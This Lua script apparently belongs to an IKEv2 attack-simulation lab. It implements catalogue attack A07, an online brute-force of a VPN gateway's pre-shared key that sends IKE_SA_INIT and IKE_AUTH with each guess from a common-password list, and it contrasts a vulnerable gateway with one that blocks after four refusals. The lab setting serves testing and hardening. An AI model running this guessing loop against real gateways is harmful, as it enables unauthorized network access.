-- Guessing a secret at the gateway itself: IKE_SA_INIT, IKE_AUTH with one guess, and again. It is slow, and everybody on the way can count.
attack = {
  id = "A07", name = "secret-guessing",
  about = "Calls a gateway again and again, each time with another guess of the shared secret",
  position = "off-path",
  needs = "the identity to guess for; to reach the gateway",
  source = "RFC 7296, 2.15 and 5; catalogue A07",
  shows = {
    vulnerable = "the secret is among the first hundred of every list: some tries, and the gateway takes the stranger in",
    hardened = "each guess costs a handshake, and a filter counts: after four refusals in a row nobody is let through",
  },
  scenarios = { vulnerable = "secret-guessing", hardened = "secret-guessing-filtered" },
}

local caller = library "caller"

-- Parameters: target, own, id; guesses = a list, separated by spaces
local p, guesses, at, me = nil, {}, 0, nil
local goal = "get in by guessing"

function on_start(params)
  p = params
  assert(p.target and p.own and p.id, "parameters target, own, id")
  local text, from = (params.guesses or "password letmein qwerty dragon monkey sunshine secret welcome") .. " ", 1
  while from <= #text do
    local space = text:find(" ", from)
    guesses[#guesses + 1], from = text:sub(from, space - 1), space + 1
  end
  timer.after("500ms", "call")
end

function on_timer(label)
  if label ~= "call" and me and me.at ~= tonumber(label) then return end
  at = at + 1
  if not guesses[at] then return end
  me = caller.call(p, "IKE_SA_INIT, for guess " .. at)
  me.at = at
  timer.after("400ms", tostring(at))   -- no answer: go on with the next
end

on({ exchange = "IKE_SA_INIT", response = true }, function(_, message)
  if not me or not caller.answered(me, message) then return end
  local id = ike.id("i", 2, p.id)
  local auth = ike.psk_auth(me.suite.prf, guesses[me.at], caller.signed_octets(me, id))
  caller.request(me, 35, 1, { id, ike.auth(2, auth), caller.child("10.1.0.0", "10.1.0.255") }, "IKE_AUTH with guess " .. me.at .. ": " .. guesses[me.at])
end)

on({ exchange = "IKE_AUTH", response = true }, function(packet)
  local inner = me and ring.open(packet)
  if not inner or done then return end
  if find(inner, "AUTH") then
    done = true
    learn("psk", "the shared secret is \"" .. guesses[me.at] .. "\"", "guess " .. me.at .. ", at the gateway itself", guesses[me.at])
    achieved(goal, true, "guess " .. me.at .. " was right: the gateway proves itself, and takes the stranger for " .. p.id)
  end
end)

function on_finish()
  if not done then achieved(goal, false, at .. " guesses, and none got in") end
end
